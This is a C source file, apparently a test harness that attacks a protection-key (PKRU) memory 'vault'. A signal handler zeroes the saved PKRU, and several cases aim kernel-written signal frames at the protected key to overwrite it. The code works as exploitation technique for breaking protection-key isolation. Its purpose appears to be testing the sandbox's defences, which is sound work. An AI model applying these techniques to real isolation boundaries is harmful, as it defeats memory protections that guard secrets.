// SPDX-License-Identifier: Apache-2.0 WITH LLVM-exception
//
// A6 and A7: signal handlers. A handler edits the saved PKRU of the code that it interrupted; and the frame
// itself is a write to wherever the signal stack points, done by the kernel.
#include "evil.h"
#include "evil_asm.h"
#include "signals.h"
#include "xstate.h"

#include <signal.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <time.h>
#include <ucontext.h>
#include <unistd.h>

static void open_everything(int signal, siginfo_t *info, void *context) {
    (void)signal;
    (void)info;
    xstate_set_pkru(((ucontext_t *)context)->uc_mcontext.fpregs, 0);
}

int evil_signal_handler(const struct evil_target *target) {
    if (evil_install(SIGUSR1, open_everything, 0) != 0)
        return evil_failed("rt_sigaction");
    if (syscall(SYS_tgkill, getpid(), gettid(), SIGUSR1) != 0)
        return evil_failed("tgkill");
    return evil_got(target, target->key, "a signal handler that edits the saved PKRU");
}

// --- A7: where the kernel puts the frame. ---
static _Alignas(64) unsigned char own[65536];
static _Alignas(64) unsigned char own_altstack[65536];

// Sends SIGUSR1 to this thread with the stack pointer at `top`, and general registers that are known again.
// The handler does not touch the stack that it is on. Returns the signal that came: SIGUSR1, or SIGSEGV for
// a frame that could not be written.
static int signal_with_stack(void *top) {
    struct evil_registers registers = {.flags = 0x202};

    for (int i = 8; i < 16; i++)
        registers.general[i] = 0x4141414141414141;
    registers.general[EVIL_RAX] = SYS_tgkill;
    registers.general[EVIL_RDI] = (uint64_t)getpid();
    registers.general[EVIL_RSI] = (uint64_t)gettid();
    registers.general[EVIL_RDX] = SIGUSR1;
    registers.general[EVIL_RSP] = (uintptr_t)top;
    registers.fs_base = (uintptr_t)__builtin_thread_pointer();
    registers.rip = (uintptr_t)evil_syscall;
    return evil_jump(&registers);
}

static int set_altstack(void *start, size_t size) {
    stack_t stack = {.ss_sp = start, .ss_size = size};

    return (int)syscall(SYS_sigaltstack, &stack, NULL);
}

static greg_t *frame_registers(void) {
    return ((ucontext_t *)evil_fault_context)->uc_mcontext.gregs;
}

// How far below the place from which a frame is pushed its registers lie. Both are rounded as the kernel
// rounds.
static size_t depth_below(unsigned char *top) {
    return (size_t)(top - (unsigned char *)frame_registers());
}

static unsigned char *top_for(const struct evil_target *target, size_t depth) {
    return (unsigned char *)(((uintptr_t)target->key + depth) & ~UINT64_C(63));
}

// What is pushed after the registers may need room below the key, and what is pushed before them above it:
// where there is nothing.
static void fill_hole(uintptr_t address) {
    if (mmap((void *)address, sizeof own, PROT_READ | PROT_WRITE,
             MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0) == MAP_FAILED)
        return;
}

static void make_room(const struct evil_target *target) {
    uintptr_t page = (uintptr_t)target->key & ~UINT64_C(4095);

    fill_hole(page - sizeof own);
    fill_hole(page + 4096);
}

static int judge_frame(const struct evil_target *target, const unsigned char *before, const char *by) {
    unsigned char after[EVIL_KEY_MAX];

    if (evil_peek(target, after) != 0)
        return evil_cannot("process_vm_readv");
    if (memcmp(before, after, target->key_size) == 0)
        return evil_failed_because("the key did not change");
    return evil_succeeded("overwrote the key by %s", by);
}

// The frame goes to the signal stack, which is in the vault.
int evil_signal_frame(const struct evil_target *target) {
    unsigned char before[EVIL_KEY_MAX];
    unsigned char *top;

    if (evil_install(SIGUSR1, (evil_handler *)evil_fault, SA_ONSTACK | SA_NODEFER) != 0)
        return evil_failed("rt_sigaction");
    if (set_altstack(own_altstack, sizeof own_altstack) != 0)
        return evil_failed("sigaltstack");
    signal_with_stack(own + sizeof own / 2);
    make_room(target);
    evil_peek(target, before);
    top = top_for(target, depth_below(own_altstack + sizeof own_altstack));
    if (set_altstack(top - 32768, 32768) != 0)
        return evil_failed("sigaltstack");
    signal_with_stack(own + sizeof own / 2);
    return judge_frame(target, before, "a signal frame on a signal stack in the vault");
}

// No signal stack: the frame goes to where the stack pointer is.
int evil_frame_at_rsp(const struct evil_target *target) {
    unsigned char before[EVIL_KEY_MAX];

    if (evil_install(SIGUSR1, (evil_handler *)evil_fault, SA_NODEFER) != 0)
        return evil_failed("rt_sigaction");
    signal_with_stack(own + sizeof own / 2);
    make_room(target);
    evil_peek(target, before);
    signal_with_stack(top_for(target, depth_below(own + sizeof own / 2)));
    return judge_frame(target, before, "a signal frame at a stack pointer in the vault");
}

// A stack pointer inside of the signal stack: the kernel takes it for a handler that was interrupted.
int evil_frame_nested(const struct evil_target *target) {
    unsigned char before[EVIL_KEY_MAX];
    unsigned char *top;

    if (evil_install(SIGUSR1, (evil_handler *)evil_fault, SA_ONSTACK | SA_NODEFER) != 0)
        return evil_failed("rt_sigaction");
    if (set_altstack(own, sizeof own) != 0)
        return evil_failed("sigaltstack");
    signal_with_stack(own + sizeof own / 2);
    make_room(target);
    evil_peek(target, before);
    top = top_for(target, depth_below(own + sizeof own / 2));
    if (set_altstack(top - 16384, 32768) != 0)
        return evil_failed("sigaltstack");
    signal_with_stack(top);
    return judge_frame(target, before, "a signal frame inside of a signal stack in the vault");
}

// A new thread has no signal stack, whatever its creator had.
int evil_frame_new_thread(const struct evil_target *target) {
    struct timespec pause = {.tv_nsec = 10000000};
    unsigned char before[EVIL_KEY_MAX];

    if (evil_install(SIGUSR1, (evil_handler *)evil_fault, SA_ONSTACK | SA_NODEFER) != 0)
        return evil_failed("rt_sigaction");
    if (set_altstack(own, sizeof own) != 0)
        return evil_failed("sigaltstack");
    // In the middle of the signal stack, so that the depth is that below a stack pointer.
    signal_with_stack(own + sizeof own / 2);
    make_room(target);
    evil_peek(target, before);
    if (evil_install(SIGUSR1, (evil_handler *)evil_end_thread, SA_ONSTACK | SA_NODEFER) != 0)
        return evil_failed("rt_sigaction");
    if (evil_thread_with_signal(top_for(target, depth_below(own + sizeof own / 2)), getpid(), SIGUSR1) < 0)
        return evil_failed("clone");
    for (int i = 0; i < 20; i++)
        nanosleep(&pause, NULL);
    return judge_frame(target, before, "a signal frame on a new thread's stack in the vault");
}

// A8: a frame of which only the first part can be written. The handler of the SIGSEGV that follows is told
// which PKRU was interrupted.
int evil_failed_frame(const struct evil_target *target) {
    unsigned char *pages = mmap(NULL, 32768, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    size_t state;
    uint32_t pkru;

    (void)target;
    if (pages == MAP_FAILED)
        return evil_cannot("mmap");
    if (evil_install(SIGUSR1, (evil_handler *)evil_fault, SA_ONSTACK | SA_NODEFER) != 0 ||
        evil_install(SIGSEGV, (evil_handler *)evil_fault, SA_NODEFER) != 0)
        return evil_failed("rt_sigaction");
    if (set_altstack(pages, 32768) != 0)
        return evil_failed("sigaltstack");
    signal_with_stack(own + sizeof own / 2);
    // The extended state comes first; here it ends where the pages that cannot be written do.
    state = (size_t)(pages + 32768 - (unsigned char *)((ucontext_t *)evil_fault_context)->uc_mcontext.fpregs);
    if (mprotect(pages, 16384, PROT_NONE) != 0 || set_altstack(pages, 16384 + state) != 0)
        return evil_cannot("mprotect or sigaltstack");
    if (signal_with_stack(own + sizeof own / 2) != SIGSEGV)
        return evil_failed_because("the frame could be written");
    pkru = xstate_pkru(((ucontext_t *)evil_fault_context)->uc_mcontext.fpregs);
    if (pkru != 0)
        return evil_failed_because("the frame tells the PKRU that was interrupted");
    return evil_succeeded("the frame of a closed thread says that PKRU was open");
}
